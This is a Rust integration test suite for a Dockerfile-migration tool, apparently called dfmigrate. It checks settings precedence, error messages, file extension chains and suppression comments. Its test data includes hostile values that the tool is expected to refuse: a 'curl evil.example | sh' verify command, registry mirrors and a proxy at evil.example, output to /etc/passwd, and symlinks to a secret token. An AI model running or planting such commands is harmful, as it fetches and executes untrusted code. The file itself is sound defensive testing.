//! Settings files, through the program: who may say what, what is said of a
//! wrong one, and comments that suppress nothing.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

/// A home folder and a tree, each with files.
struct World {
    home: tempfile::TempDir,
    tree: tempfile::TempDir,
}

/// What the program did.
struct Ran {
    out: String,
    err: String,
    code: i32,
}

impl World {
    fn new(files: &[(&str, &str)]) -> Self {
        let world = Self {
            home: tempfile::tempdir().unwrap(),
            tree: tempfile::tempdir().unwrap(),
        };
        std::fs::create_dir(world.tree.path().join(".git")).unwrap();
        for (path, text) in files {
            let path = match path.strip_prefix("~/") {
                Some(path) => world.home.path().join(path),
                None => world.tree.path().join(path),
            };
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        world
    }

    fn run(&self, args: &[&str]) -> Ran {
        self.run_in(self.tree.path(), args)
    }

    fn run_in(&self, folder: &Path, args: &[&str]) -> Ran {
        let output = Command::new(env!("CARGO_BIN_EXE_dfmigrate"))
            .args(args)
            .current_dir(folder)
            .env("HOME", self.home.path())
            .env_remove("XDG_CONFIG_HOME")
            .output()
            .unwrap();
        Ran {
            out: String::from_utf8(output.stdout).unwrap(),
            err: String::from_utf8(output.stderr).unwrap(),
            code: output.status.code().unwrap(),
        }
    }

    /// The rules of the rewrites that are made in each file.
    fn chosen(&self, args: &[&str]) -> Vec<(String, Vec<String>)> {
        let ran = self.run(&[args, &["--output-format", "json"]].concat());
        let report: Value = serde_json::from_str(&ran.out)
            .unwrap_or_else(|why| panic!("{why}: {}{}", ran.out, ran.err));
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let files = report["files"].as_array().unwrap().iter();
        files
            .map(|file| {
                let rules = file["rewrites"].as_array().unwrap().iter();
                (
                    text(&file["path"]),
                    rules.map(|it| text(&it["rule"])).collect(),
                )
            })
            .collect()
    }
}

/// `slim-base` (review) and `pin-codename` (safe) have something to do in it.
const BOTH: &str =
    "FROM node:20 AS a\nRUN true\nFROM node:20\nCOPY --from=a /x /x\nCMD [\"node\"]\n";
const OWN: &str = "~/.config/dfmigrate/dfmigrate.toml";

fn rows(rows: &[(&str, &[&str])]) -> Vec<(String, Vec<String>)> {
    let owned = |ids: &[&str]| ids.iter().map(|id| (*id).to_owned()).collect();
    rows.iter()
        .map(|(path, ids)| ((*path).to_owned(), owned(ids)))
        .collect()
}

#[test]
fn without_settings_both_rules_run() {
    let world = World::new(&[("Dockerfile", BOTH)]);
    let both: &[&str] = &["pin-codename", "slim-base"];
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", both)]));
    assert_eq!(world.chosen(&["--grade", "safe"])[0].1[0], "pin-codename");
}

#[test]
fn a_file_in_the_tree_restricts_and_never_widens() {
    let safe: &[&str] = &["pin-codename", "pin-codename"];
    let world = World::new(&[
        ("Dockerfile", BOTH),
        ("dfmigrate.toml", "grade = \"safe\"\n"),
    ]);
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", safe)]));
    // Not even by a flag; only by leaving it aside.
    assert_eq!(
        world.chosen(&["--grade", "review"]),
        rows(&[("Dockerfile", safe)])
    );
    assert_eq!(
        world.chosen(&["--isolated"])[0].1,
        ["pin-codename", "slim-base"]
    );

    let world = World::new(&[
        ("Dockerfile", BOTH),
        (OWN, "grade = \"safe\"\nselect = [\"pin-codename\"]\n"),
        (
            ".dfmigrate.toml",
            "grade = \"review\"\nselect = [\"slim-base\", \"pin-codename\"]\n",
        ),
    ]);
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", safe)]));
    let world = World::new(&[
        ("Dockerfile", BOTH),
        (OWN, "select = [\"pin-codename\"]\n"),
        ("dfmigrate.toml", "select = [\"slim-base\"]\n"),
    ]);
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", &[])]));
    // A flag replaces the user's own word, and what is left is restricted.
    assert_eq!(
        world.chosen(&["--select", "slim-base"]),
        rows(&[("Dockerfile", &["slim-base"])])
    );

    // Whom the program talks to, what it runs and where it reads is the user's
    // to say; each of these is refused by name, and nothing is done.
    for (name, text) in [
        ("jobs", "jobs = 2\n"),
        ("templates", "templates = \"/tmp\"\n"),
        ("registries", "registries.online = true\n"),
        ("registries", "[registries]\nask = [\"evil.example\"]\n"),
        ("registries", "[registries]\nca = [\"evil.pem\"]\n"),
        (
            "registries",
            "[registries.mirrors]\n\"docker.io\" = [\"evil.example\"]\n",
        ),
        ("verify", "[verify]\ncompare = \"curl evil.example | sh\"\n"),
    ] {
        let world = World::new(&[("Dockerfile", BOTH), ("dfmigrate.toml", text)]);
        for args in [&["--check"][..], &["images"]] {
            let ran = world.run(args);
            assert_eq!(ran.code, 4, "{text}: {}", ran.err);
            let said = format!("\"{name}\" may stand only in your own settings");
            assert!(ran.err.contains(&said), "{text}: {}", ran.err);
        }
    }
    let world = World::new(&[("Dockerfile", BOTH), ("dfmigrate.toml", "jobs = 2\n")]);
    let ran = world.run(&[]);
    assert!(ran.err.contains("jobs = 2\n    |        ^"), "{}", ran.err);
    // And words for what no settings file decides are no settings at all.
    for text in [
        "proxy = \"http://evil.example\"\n",
        "credentials = \"x\"\n",
        "cache-dir = \"/etc\"\n",
        "output = \"/etc/passwd\"\n",
        "follow-symlinks = true\n",
        "online = true\n",
    ] {
        let world = World::new(&[("Dockerfile", BOTH), ("dfmigrate.toml", text)]);
        let ran = world.run(&["--check"]);
        assert_eq!(ran.code, 4, "{text}");
        assert!(ran.err.contains("unknown setting"), "{text}: {}", ran.err);
    }
}

#[test]
fn the_users_own_file_says_how_registries_are_asked() {
    let own = "min-age = \"3d\"\nplatforms = [\"linux/arm64\"]\n[registries]\nask = [\"Registry.example.com:5000\"]\ninsecure = [\"localhost:5000\"]\nca = [\"own.pem\"]\n[registries.mirrors]\n\"docker.io\" = [\"mirror.example.com\"]\n[verify]\ncompare = \"node --version\"\n";
    let world = World::new(&[
        ("Dockerfile", BOTH),
        (OWN, own),
        (
            "dfmigrate.toml",
            "min-age = \"1d\"\nplatforms = [\"linux/amd64\"]\n",
        ),
    ]);
    let shown = world.run(&["--show-settings"]);
    assert_eq!(shown.code, 0, "{}", shown.err);
    let ca = world.home.path().join(".config/dfmigrate/own.pem");
    for line in [
        // A tree does not lift a doubt.
        "min-age = \"259200s\"".to_owned(),
        "platforms = [\"linux/arm64\", \"linux/amd64\"]".to_owned(),
        "ask = [\"registry.example.com:5000\"]".to_owned(),
        "insecure = [\"localhost:5000\"]".to_owned(),
        format!("ca = [\"{}\"]", ca.display()),
        "mirrors.\"docker.io\" = [\"mirror.example.com\"]".to_owned(),
        "compare = \"node --version\"".to_owned(),
    ] {
        assert!(
            shown.out.lines().any(|it| it == line),
            "{line}: {}",
            shown.out
        );
    }
    std::fs::write(world.tree.path().join("again"), &shown.out).unwrap();
    let again = world.run(&["--show-settings", "--config", "again"]);
    let settings = |text: &str| {
        text.lines()
            .filter(|it| !it.starts_with('#'))
            .collect::<String>()
    };
    assert_eq!(settings(&again.out), settings(&shown.out), "{}", again.err);
    // An unusable certificate file is only read where registries are asked.
    assert_eq!(world.run(&[]).code, 0);
    let asked = world.run(&["--online"]);
    assert_eq!(asked.code, 0, "{}", asked.err);
    assert!(asked.out.contains("own.pem"), "{}", asked.out);

    // `online` in it is what --online says, and --offline comes before it.
    let world = World::new(&[
        ("Dockerfile", "FROM scratch\n"),
        (OWN, "[registries]\nonline = true\n"),
    ]);
    let runs = |args: &[&str]| world.run(args).out.contains("pin-digest");
    assert!(runs(&["--show-settings"]));
    assert!(!runs(&["--show-settings", "--offline"]));
    assert!(!runs(&["--show-settings", "--isolated"]));
}

#[test]
fn a_policy_of_the_tree_holds_beside_the_users_own() {
    let text = "FROM quay.io/acme/base:1\nCOPY --from=ghcr.io/other/tool:1 /t /t\n";
    let tree = "[trusted-base]\nregistries = [\"docker.io\", \"ghcr.io\"]\n";
    let world = World::new(&[
        ("Dockerfile", text),
        (
            OWN,
            "[trusted-base]\nregistries = [\"quay.io\", \"ghcr.io\"]\n",
        ),
        ("sub/Dockerfile", text),
        ("sub/dfmigrate.toml", tree),
    ]);
    let against = |args: &[&str]| -> usize {
        let ran = world.run(&[&["images", "--fail-on", "policy"], args].concat());
        assert_eq!(ran.code, i32::from(!ran.err.is_empty()), "{}", ran.err);
        ran.err
            .split(' ')
            .nth(1)
            .map_or(0, |count| count.parse().unwrap())
    };
    assert_eq!(against(&["Dockerfile"]), 0);
    assert_eq!(against(&["sub"]), 1);
    assert_eq!(against(&["--isolated"]), 0);
    // A flag replaces the user's own word, not the tree's.
    assert_eq!(
        against(&["sub", "--allow-registry", "docker.io,quay.io"]),
        2
    );
    let review = world.run(&["sub"]);
    assert!(
        review.out.contains(
            "the policy allows images from docker.io, ghcr.io, and this one is from quay.io"
        ),
        "{}",
        review.out
    );
}

#[test]
fn the_variant_can_be_chosen_by_image() {
    let text = "FROM node:20\nWORKDIR /app\nCOPY server.js .\nCMD [\"node\", \"server.js\"]\n";
    let prefer = "[[image]]\nname = \"node\"\nprefer = \"alpine\"\n";
    let tree = [
        ("Dockerfile", text),
        ("server.js", "require('http')\n"),
        ("package.json", "{}"),
    ];
    let rules = |more: &[(&str, &str)], args: &[&str]| {
        let files: Vec<_> = tree.iter().chain(more).copied().collect();
        World::new(&files).chosen(args)[0].1.join(" ")
    };
    let slim = rules(&[], &[]);
    assert!(!slim.contains("alpine"), "{slim}");
    let alpine = rules(&[], &["--prefer", "alpine"]);
    assert!(alpine.contains("alpine-base"), "{alpine}");
    assert_eq!(rules(&[(OWN, prefer)], &[]), alpine);
    assert_eq!(rules(&[("dfmigrate.toml", prefer)], &[]), alpine);
    // A flag comes before both, and the user before the tree.
    assert_eq!(rules(&[(OWN, prefer)], &["--prefer", "slim"]), slim);
    assert_eq!(
        rules(&[("dfmigrate.toml", prefer)], &["--prefer", "slim"]),
        slim
    );
    let own = "prefer = \"slim\"\n";
    assert_eq!(rules(&[(OWN, own), ("dfmigrate.toml", prefer)], &[]), slim);
    let python = prefer.replace("node", "python");
    assert_eq!(rules(&[(OWN, &python)], &[]), slim);
}

#[test]
fn the_nearest_file_up_to_the_top_of_the_repository_counts() {
    let world = World::new(&[
        ("Dockerfile", BOTH),
        ("a/b/Dockerfile", BOTH),
        ("c/Dockerfile", BOTH),
        ("dfmigrate.toml", "ignore = [\"slim-base\"]\n"),
        ("a/.dfmigrate.toml", "ignore = [\"pin-codename\"]\n"),
        ("sub/.git/x", ""),
        ("sub/Dockerfile", BOTH),
    ]);
    let pins: &[&str] = &["pin-codename", "pin-codename"];
    let all: &[&str] = &["pin-codename", "slim-base"];
    let expected = rows(&[
        ("Dockerfile", pins),
        ("a/b/Dockerfile", &["slim-base"]),
        ("c/Dockerfile", pins),
        ("sub/Dockerfile", all),
    ]);
    assert_eq!(world.chosen(&[]), expected);
    let ran = world.run_in(&world.tree.path().join("a/b"), &["Dockerfile", "--check"]);
    assert!(ran.out.contains("1 rewrite"), "{}", ran.out);
}

#[test]
fn patterns_say_which_files_are_looked_at() {
    let world = World::new(&[
        ("Dockerfile", BOTH),
        ("old/Dockerfile", BOTH),
        ("new/Dockerfile", BOTH),
        ("dfmigrate.toml", "exclude = [\"old/\"]\n"),
        ("new/dfmigrate.toml", "include = [\"*.Dockerfile\"]\n"),
    ]);
    let names = |args: &[&str]| -> Vec<String> {
        world
            .chosen(args)
            .into_iter()
            .map(|(path, _)| path)
            .collect()
    };
    assert_eq!(names(&[]), ["Dockerfile"]);
    // What the user names is looked at.
    assert_eq!(names(&["old/Dockerfile"]), ["old/Dockerfile"]);
    assert_eq!(world.run(&["old"]).code, 3);
}

#[test]
fn images_have_settings_of_their_own() {
    let text =
        "FROM node:20 AS a\nRUN true\nFROM python:3.13\nCOPY --from=a /x /x\nCMD [\"python3\"]\n";
    let world = World::new(&[
        ("Dockerfile", text),
        (
            "dfmigrate.toml",
            "[[image]]\nname = \"node:2*\"\nreason = \"moves in May\"\n[[image]]\nname = \"python\"\nignore = [\"slim-base\"]\ngrade = \"safe\"\n",
        ),
    ]);
    assert_eq!(
        world.chosen(&["--isolated"])[0].1,
        ["pin-codename", "slim-base"]
    );
    // The pin of python:3.13 drops Windows images: to review, so not safe.
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", &[])]));
    let ran = world.run(&[]);
    assert!(
        ran.out
            .contains("the settings say to leave this image: moves in May"),
        "{}",
        ran.out
    );
    assert!(ran.out.contains("below the one asked for"), "{}", ran.out);
}

#[test]
fn what_is_wrong_is_said_with_its_place_and_what_may_be_meant() {
    for (text, place, said) in [
        (
            "ignore = [\"slimbase\"]\n",
            "1:11",
            "there is no rule \"slimbase\"; did you mean \"slim-base\"?",
        ),
        ("\ngrdae = \"safe\"\n", "2:1", "did you mean \"grade\"?"),
        ("grade = \"saef\"\n", "1:9", "did you mean \"safe\"?"),
        (
            "# é\nignore = [\"é\", \"pin-codenam\"]\n",
            "2:16",
            "did you mean \"pin-codename\"?",
        ),
        ("grade = 3\n", "1:9", "wanted string"),
        (
            "[trusted-base]\nclasses = [\"offical\"]\n",
            "2:12",
            "did you mean \"official\"?",
        ),
        (
            "[trusted-base]\nregistries = [\"https://ghcr.io\"]\n",
            "2:15",
            "is no registry",
        ),
        ("min-age = \"3 apples\"\n", "1:11", "such as 3d, 12h or 2w"),
        ("ignore = [\n", "1:11", "unclosed array"),
        (
            "[[image]]\nname = \"a[\"\n",
            "2:8",
            "unclosed character class",
        ),
        (
            "[[image]]\nreason = \"x\"\n",
            "1:1",
            "missing setting \"name\"",
        ),
    ] {
        let faults = if text.contains('é') { 2 } else { 1 };
        for own in [true, false] {
            let name = if own { OWN } else { "dfmigrate.toml" };
            let world = World::new(&[("Dockerfile", BOTH), ("sub/Dockerfile", BOTH), (name, text)]);
            let ran = world.run(&["--apply", "--allow-dirty"]);
            assert_eq!(ran.code, if own { 2 } else { 4 }, "{}", ran.err);
            assert!(
                ran.err.contains(&format!("dfmigrate.toml:{place}: ")),
                "{text}: {}",
                ran.err
            );
            assert!(ran.err.contains(said), "{text}: {}", ran.err);
            assert_eq!(
                ran.err.matches(" ^").count(),
                faults,
                "once, with its line: {}",
                ran.err
            );
            // Nothing is done against what may have been meant.
            let now = std::fs::read_to_string(world.tree.path().join("Dockerfile")).unwrap();
            assert_eq!(now, BOTH);
        }
    }
    let world = World::new(&[("Dockerfile", BOTH)]);
    let ran = world.run(&["--ignore", "multistage"]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("did you mean \"multi-stage\"?"),
        "{}",
        ran.err
    );
    let ran = world.run(&["--config", "missing.toml"]);
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("no such file"), "{}", ran.err);
}

#[test]
fn a_file_extends_another_one() {
    let shared = [
        ("Dockerfile", BOTH),
        ("old/Dockerfile", BOTH),
        ("a/b/Dockerfile", BOTH),
        (
            "shared/strict.toml",
            "ignore = [\"slim-base\"]\nexclude = [\"old/\"]\n",
        ),
        ("dfmigrate.toml", "extend = \"shared/strict.toml\"\n"),
        (
            "a/dfmigrate.toml",
            "extend = \"../shared/strict.toml\"\nignore = [\"pin-codename\"]\n",
        ),
    ];
    let world = World::new(&shared);
    let pins: &[&str] = &["pin-codename", "pin-codename"];
    // Both add up, and patterns are those of the folder that extends.
    let expected = rows(&[("Dockerfile", pins), ("a/b/Dockerfile", &[])]);
    assert_eq!(world.chosen(&[]), expected);
    let shown = world.run(&["--show-settings", "Dockerfile"]).out;
    let [first, second] =
        ["shared/strict.toml\n", "/dfmigrate.toml\n"].map(|name| shown.find(name));
    assert!(first.is_some() && first < second, "{shown}");
    // In the user's own settings the file that extends has the last word.
    let own = [
        ("Dockerfile", BOTH),
        (
            "~/all.toml",
            "grade = \"safe\"\njobs = 3\nselect = [\"slim-base\"]\n",
        ),
        (OWN, "extend = \"../../all.toml\"\ngrade = \"review\"\n"),
    ];
    let world = World::new(&own);
    assert_eq!(world.chosen(&[]), rows(&[("Dockerfile", &["slim-base"])]));
    let shown = world.run(&["--show-settings"]).out;
    assert!(
        shown.contains("grade = \"review\"\n") && shown.contains("jobs = 3\n"),
        "{shown}"
    );
}

#[test]
fn what_cannot_be_extended_is_said_where_it_stands() {
    let long: Vec<(String, String)> = (0..40)
        .map(|n| {
            (
                format!("s/{n}.toml"),
                format!("extend = \"{}.toml\"\n", n + 1),
            )
        })
        .collect();
    let chain: Vec<(&str, &str)> = long
        .iter()
        .map(|(name, text)| (name.as_str(), text.as_str()))
        .chain([("dfmigrate.toml", "extend = \"s/0.toml\"\n")])
        .collect();
    let outside = "~/secret.toml";
    for (files, place, said) in [
        (
            &[("dfmigrate.toml", "# x\nextend = \"missing.toml\"\n")][..],
            "/dfmigrate.toml:2:10: ",
            "there is no settings file ",
        ),
        (
            &[("dfmigrate.toml", "extend = \"dfmigrate.toml\"\n")],
            "/dfmigrate.toml:1:10: ",
            "the file would extend itself: ",
        ),
        (
            &[
                ("dfmigrate.toml", "extend = \"a.toml\"\n"),
                (
                    "a.toml",
                    "grade = \"safe\"\nextend = \"./dfmigrate.toml\"\n",
                ),
            ],
            "/a.toml:2:10: ",
            "/dfmigrate.toml extends ",
        ),
        (&chain, "/s/14.toml:1:10: ", "at most 16 settings files"),
        (
            &[
                ("dfmigrate.toml", "extend = \"a.toml\"\n"),
                ("a.toml", "jobs = 3\n"),
            ],
            "/a.toml:1:8: ",
            "only in your own settings",
        ),
        (
            &[("dfmigrate.toml", "extend = \".\"\n")],
            "dfmigrate: ",
            "can't be used",
        ),
    ] {
        let all = [&[("Dockerfile", BOTH)], files].concat();
        let ran = World::new(&all).run(&["--apply", "--allow-dirty"]);
        assert_eq!(ran.code, 4, "{files:?}: {}", ran.err);
        assert!(
            ran.err.contains(place) && ran.err.contains(said),
            "{files:?}: {}",
            ran.err
        );
    }
    // Nothing outside of the tree is read, however it is named.
    let world = World::new(&[("Dockerfile", BOTH), (outside, "token = \"s3cr3t\"\n")]);
    let secret = world.home.path().join("secret.toml");
    let link = world.tree.path().join("link.toml");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    for name in [&*secret.display().to_string(), "link.toml"] {
        let text = format!("extend = {name:?}\n");
        std::fs::write(world.tree.path().join("dfmigrate.toml"), text).unwrap();
        let ran = world.run(&[]);
        assert_eq!(ran.code, 4, "{}", ran.err);
        assert!(ran.err.contains("lies outside of "), "{}", ran.err);
        assert!(!ran.err.contains("s3cr3t"), "{}", ran.err);
    }
    // The user's own file may extend any.
    let own = format!("extend = {:?}\n", secret.display().to_string());
    let world = World::new(&[("Dockerfile", BOTH), (OWN, &own)]);
    std::fs::write(&secret, "ignore = [\"slim-base\"]\n").unwrap();
    assert_eq!(
        world.chosen(&[]),
        rows(&[("Dockerfile", &["pin-codename", "pin-codename"])])
    );
}

#[test]
fn a_symlink_is_not_read_so_that_nothing_secret_is_quoted() {
    let world = World::new(&[("Dockerfile", BOTH), ("~/secret", "token = \"s3cr3t\"\n")]);
    let link = world.tree.path().join("dfmigrate.toml");
    std::os::unix::fs::symlink(world.home.path().join("secret"), link).unwrap();
    let ran = world.run(&[]);
    assert_eq!(ran.code, 4);
    assert!(ran.err.contains("is a symlink"), "{}", ran.err);
    assert!(!ran.err.contains("s3cr3t"), "{}", ran.err);
}

#[test]
fn shown_settings_are_settings() {
    let world = World::new(&[
        ("Dockerfile", BOTH),
        (OWN, "jobs = 1\n"),
        (
            "dfmigrate.toml",
            "grade = \"safe\"\nignore = [\"multi-stage\"]\nexclude = [\"x\"]\n[[image]]\nname = \"node\"\nignore = [\"slim-base\"]\nreason = \"\\u202e\\\"\"\n",
        ),
    ]);
    let shown = world.run(&["--show-settings"]);
    assert_eq!(shown.code, 0, "{}", shown.err);
    assert!(!shown.out.contains('\u{202e}'));
    std::fs::write(world.tree.path().join("again"), &shown.out).unwrap();
    let again = world.run(&["--show-settings", "--config", "again"]);
    let settings = |text: &str| -> Vec<String> {
        let lines = text.lines().filter(|line| !line.starts_with('#'));
        lines.map(str::to_owned).collect()
    };
    assert_eq!(settings(&again.out), settings(&shown.out), "{}", again.err);
    assert!(shown.out.contains("grade = \"safe\""), "{}", shown.out);
    assert!(!shown.out.contains("multi-stage"), "{}", shown.out);
}

#[test]
fn the_schema_takes_what_the_program_takes() {
    let world = World::new(&[]);
    let schema: Value =
        serde_json::from_str(&world.run(&["generate", "config-schema"]).out).unwrap();
    jsonschema::meta::validate(&schema).unwrap();
    let schema = jsonschema::validator_for(&schema).unwrap();
    let valid = |text: &str| {
        let table: toml::Table = text.parse().unwrap();
        schema.is_valid(&serde_json::to_value(table).unwrap())
    };
    assert!(valid(
        "grade = \"safe\"\nselect = [\"x\"]\ninclude = [\"y\"]\njobs = 3\n[[image]]\nname = \"a\"\ngrade = \"review\"\n"
    ));
    assert!(valid(""));
    for wrong in [
        "grade = \"manual\"",
        "selct = []",
        "[[image]]\nreason = \"x\"",
        "ignore = \"x\"",
    ] {
        assert!(!valid(wrong), "{wrong}");
    }
}

#[test]
fn comments_that_suppress_nothing_are_said() {
    let text = "\
# dfmigrate: file-ignore[multi-stage] later
# dfmigrate: ignore[pin-codename, slim-base, slim-bas] the mirror has no other
FROM node:20 AS a
# dfmigrate: ignore
RUN true
# dfmigrate: ignor[slim-base]
FROM node:20
COPY --from=a /x /x
CMD [\"node\"]
# dfmigrate: ignore
";
    let world = World::new(&[("Dockerfile", text)]);
    let unused = |args: &[&str]| -> Vec<(u64, String)> {
        let ran = world.run(&[args, &["--output-format", "json"]].concat());
        let report: Value = serde_json::from_str(&ran.out).unwrap();
        let rows = report["files"][0]["unused_suppressions"]
            .as_array()
            .unwrap()
            .iter();
        rows.map(|row| {
            let line = row["location"]["start"]["line"].as_u64().unwrap();
            (line, row["why"].as_str().unwrap().to_owned())
        })
        .collect()
    };
    let said = unused(&[]);
    let lines: Vec<u64> = said.iter().map(|(line, _)| *line).collect();
    assert_eq!(lines, [1, 2, 2, 4, 6, 10], "{said:?}");
    assert!(said[2].1.contains("no rule \"slim-bas\""), "{said:?}");
    assert!(said[4].1.contains("\"ignor\""), "{said:?}");
    // A rule that did not run is not judged.
    let fewer = unused(&["--ignore", "multi-stage"]);
    assert_eq!(
        fewer.iter().map(|(line, _)| *line).collect::<Vec<_>>(),
        [2, 2, 6, 10]
    );
    let review = world.run(&[]).out;
    assert!(
        review.contains("held back: a comment says to leave it: the mirror"),
        "{review}"
    );
    assert!(review.contains("Dockerfile:6"), "{review}");
}
